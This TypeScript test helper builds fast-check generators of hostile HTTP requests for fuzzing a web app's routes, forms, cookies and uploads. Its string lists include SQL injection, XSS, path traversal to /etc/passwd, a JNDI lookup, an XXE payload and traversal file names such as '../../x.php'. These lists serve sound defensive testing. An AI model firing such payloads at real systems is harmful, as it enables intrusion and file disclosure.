import fc from 'fast-check'

/*
 * fast-check arbitraries for requests a hostile or broken client sends: strings, bytes, ids,
 * content types, methods and sizes. Used by tests/integration/fuzz.test.ts.
 */

/** A request as the fuzz test sends it: a path template filled in, and how to send it. */
export type HostileRequest = {
  route: RouteTemplate
  ids: string[]
  encodeIds: boolean
  dataRequest: boolean
  query: [string, string][]
  rawQuery: string
  method: string
  signedIn: boolean
  body: HostileBody | null
  cookie: string | null
}

export type RouteTemplate = { routeId: string; template: string; hasAction: boolean }

export type HostileBody =
  | { kind: 'urlencoded'; contentType: string; fields: [string, string][]; padBytes: number }
  | { kind: 'raw-urlencoded'; contentType: string; text: string }
  | { kind: 'bytes'; contentType: string | null; bytes: Uint8Array }
  | { kind: 'multipart'; fields: [string, string][]; file: { field: string; name: string; bytes: Uint8Array } | null }
  | { kind: 'text'; contentType: string | null; text: string }

/** encodeURIComponent throws on half a surrogate pair; the URL parser and URLSearchParams don't. */
export const withoutLoneSurrogates = (text: string) =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')

const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001b[31mred',
  '\u007f\u0085\u009f',
  'tab\tnew\nline\r\n',
  '\ufeffbom',
  '\ud800lone surrogate',
  '\uffff\ufffe',
  '\u202eevil\u202c',
  'Ω≈ç√∫˜µ≤≥÷ 田中さん 🏠👨‍👩‍👧',
  "' OR '1'='1' --",
  "'; drop table users; --",
  '" onmouseover="alert(1)',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%FF%FE',
  '%',
  '%%41',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x1F',
  '99999999999999999999999999',
  'null',
  'true',
  '[]',
  '{"a":1}',
  '//evil.com',
  '/.//evil.com',
  'javascript:alert(1)',
  'x'.repeat(5_000),
  'é'.repeat(70_000),
]

/** Field and query names the app's forms and loaders read, and a few more. */
const FIELD_NAMES = [
  'intent', 'email', 'password', 'fullName', 'website', 'theme', 'redirectTo', 'plan', 'title', 'type', 'purpose',
  'price', 'currency', 'city', 'area', 'street', 'bedrooms', 'bathrooms', 'status', 'visibility', 'description',
  'privateNotes', 'confirm', 'subject', 'id', 'body', 'kind', 'targetId', 'shareId', 'expiresInDays', 'propertyId',
  'clientId', 'dealId', 'stage', 'value', 'reaction', 'comment', 'name', 'photoId', 'documentId', 'caption', 'shared',
  'note', 'phone', 'tags', 'currentPassword', 'newPassword', 'confirmPassword', 'scope', 'expectedCloseDate',
  'rentPeriod', 'builtArea', 'amenities', 'code', 'passwordOrCode', '__proto__', '',
]
const QUERY_NAMES = [
  'q', 'city', 'tags', 'status', 'type', 'purpose', 'minPrice', 'maxPrice', 'minBedrooms', 'sort', 'page', 'pageSize',
  'stage', 'kind', 'before', 'mode', 'upload', 'index', '_routes', 'redirectTo', 'position',
]
// Every intent any form posts, and some no form knows.
const INTENTS = [
  'signin', 'signup', 'reset-nav', 'login', 'home', 'clear', 'status', 'notes', 'delete', 'create', 'revoke', 'move',
  'update', 'add', 'remove', 'note', 'stage', 'caption', 'cover', 'move-up', 'move-down', 'delete-photo',
  'upload-photos', 'upload-document', 'share-document', 'delete-document', 'update-profile', 'change-password',
  'sign-out-others', 'sign-out-everywhere', 'two-factor-start', 'two-factor-cancel', 'two-factor-confirm', 'two-factor-disable',
  'two-factor-regenerate', 'move-to', 'mark-all-read', 'DROP', '\u0000',
]
const ENUM_VALUES = [
  'yes', 'true', 'false', 'on', 'dark', 'light', 'system', 'property', 'client', 'deal', 'client_listing', 'starter',
  'advanced', 'professional', 'free_trial', 'active', 'sold', 'apartment', 'sale', 'rent', 'EUR', 'USD', 'lead',
  'interested', 'not_for_me', 'buyer', 'residential', 'photos', 'document',
]

export function hostileString(ids: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 4 },
    { arbitrary: fc.constantFrom(...ENUM_VALUES, ...INTENTS), weight: 3 },
    { arbitrary: fc.constantFrom(...ids), weight: 2 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
    { arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }), weight: 2 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 1 },
    { arbitrary: fc.integer().map(String), weight: 1 },
    { arbitrary: fc.double().map(String), weight: 1 },
  )
}

/** What goes where a route expects an id: a real one, a foreign one, or anything else. */
function hostileId(realIds: string[], foreignIds: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...realIds), weight: 4 },
    { arbitrary: fc.constantFrom(...foreignIds), weight: 2 },
    { arbitrary: fc.uuid(), weight: 1 },
    {
      arbitrary: fc.constantFrom(
        'not-a-uuid', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-fffffffffffff', '1', '-1', '0',
        "1' or '1'='1", '..', '%2e%2e', '%2F', '%00', '%FF', '%E0%A4%A', 'a'.repeat(3000), 'AAAAAAAAAAAAAAAAAAAAAA',
        'small', 'large', 'original', '../../etc/passwd',
      ),
      weight: 2,
    },
    { arbitrary: hostileString(realIds), weight: 1 },
  )
}

function body(ids: string[]): fc.Arbitrary<HostileBody> {
  const value = fc.oneof({ arbitrary: fc.constantFrom(...INTENTS), weight: 1 }, { arbitrary: hostileString(ids), weight: 3 })
  const fields = fc.tuple(
    fc.constantFrom(...INTENTS),
    fc.array(fc.tuple(fc.oneof(fc.constantFrom(...FIELD_NAMES), hostileString(ids)), value), { maxLength: 8 }),
  ).map(([intent, rest]) => [['intent', intent], ...rest] as [string, string][])
  const formTypes = fc.constantFrom(
    'application/x-www-form-urlencoded',
    'application/x-www-form-urlencoded;charset=UTF-8',
    'APPLICATION/X-WWW-FORM-URLENCODED',
    'application/x-www-form-urlencoded; charset=latin1',
  )
  const notFormTypes = fc.constantFrom(
    null, 'application/json', 'text/plain', 'application/xml', 'text/xml', 'multipart/form-data',
    'multipart/form-data; boundary=', 'multipart/form-data; boundary=xyz', 'multipart/mixed; boundary=xyz',
    'application/octet-stream', 'image/png', '*/*', 'application/x-www-form-urlencodedx', ';;;',
  )
  return fc.oneof(
    { arbitrary: fc.record({ kind: fc.constant('urlencoded' as const), contentType: formTypes, fields, padBytes: fc.constantFrom(0, 0, 0, 20_000, 300_000) }), weight: 6 },
    { arbitrary: fc.record({ kind: fc.constant('raw-urlencoded' as const), contentType: formTypes, text: fc.array(fc.constantFrom('intent=', 'notes', '&', '=', '%', '%FF', '%C3%28', '%00', '+', 'a', '%ED%A0%80', '%F0%9F%8F%A0', '%0D%0A', 'privateNotes=')).map((p) => p.join('')) }), weight: 2 },
    { arbitrary: fc.record({ kind: fc.constant('bytes' as const), contentType: fc.oneof(formTypes, notFormTypes), bytes: fc.uint8Array({ maxLength: 300 }) }), weight: 2 },
    {
      arbitrary: fc.record({
        kind: fc.constant('multipart' as const),
        fields,
        file: fc.option(
          fc.record({
            field: fc.constantFrom('photos', 'document', 'file', 'intent'),
            name: fc.constantFrom('a.jpg', '../../x.php', 'a\u0000b.pdf', '', 'ünï cödé.PDF', '.htaccess'),
            bytes: fc.uint8Array({ maxLength: 2000 }),
          }),
        ),
      }),
      weight: 3,
    },
    { arbitrary: fc.record({ kind: fc.constant('text' as const), contentType: notFormTypes, text: fc.oneof(hostileString(ids), fc.constantFrom('{"intent":"signin","email":"a@b.c"}', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '--xyz\r\nContent-Disposition: form-data; name="intent"\r\n\r\nsignin')) }), weight: 2 },
  )
}

export function hostileRequest(routes: RouteTemplate[], realIds: string[], foreignIds: string[]): fc.Arbitrary<HostileRequest> {
  const ids = [...realIds, ...foreignIds]
  const queryValue = fc.oneof(hostileString(ids), fc.constantFrom(...realIds))
  return fc.record({
    // Form targets more often (a third of the picks, plus their share of the rest): that is where
    // bodies are read. The rest are spread over every route, enough that each of some ninety
    // routes gets its five requests whatever the seed (at one half, one route in five fell short).
    route: fc.oneof(
      { arbitrary: fc.constantFrom(...routes.filter((route) => route.hasAction)), weight: 1 },
      { arbitrary: fc.constantFrom(...routes), weight: 2 },
    ),
    ids: fc.array(hostileId(realIds, foreignIds), { minLength: 2, maxLength: 2 }),
    encodeIds: fc.boolean(),
    dataRequest: fc.constantFrom(false, false, true),
    query: fc.array(fc.tuple(fc.oneof({ arbitrary: fc.constantFrom(...QUERY_NAMES), weight: 4 }, { arbitrary: hostileString(ids), weight: 1 }), queryValue), { maxLength: 4 }),
    rawQuery: fc.constantFrom('', '', '', '', 'q=%00', 'q=%FF', 'q=%C3%28', 'page=%', 'a=%E0%A4%A', '&&&', 'q=a%00b&page=-1', 'before=%00%01'),
    method: fc.oneof(
      { arbitrary: fc.constant('POST'), weight: 6 },
      { arbitrary: fc.constant('GET'), weight: 4 },
      { arbitrary: fc.constantFrom('HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'), weight: 2 },
    ),
    signedIn: fc.boolean(),
    body: fc.option(body(ids), { freq: 8 }),
    cookie: fc.option(fc.tuple(fc.constantFrom('bv_session', 'bv_nav', 'bv_theme', 'bv_flash', 'bv_visitor', 'x'), hostileString(ids)).map(([name, value]) => `${name}=${encodeURIComponent(withoutLoneSurrogates(value))}`), { freq: 4 }),
  })
}
